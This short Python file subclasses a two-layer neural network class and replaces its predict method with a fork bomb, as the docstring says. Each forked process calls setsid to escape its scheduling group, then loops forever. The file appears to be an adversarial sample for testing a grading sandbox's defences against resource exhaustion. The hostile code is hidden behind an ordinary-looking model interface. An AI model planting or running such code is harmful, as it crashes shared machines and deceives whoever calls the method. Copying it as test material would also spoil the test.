"""A fork bomb whose every process starts its own session (and so its own scheduling
autogroup), then spins."""

import os

import working_net


class TwoLayerNet(working_net.TwoLayerNet):
    def predict(self, X):
        while True:
            try:
                if os.fork() == 0:
                    os.setsid()
            except OSError:
                pass
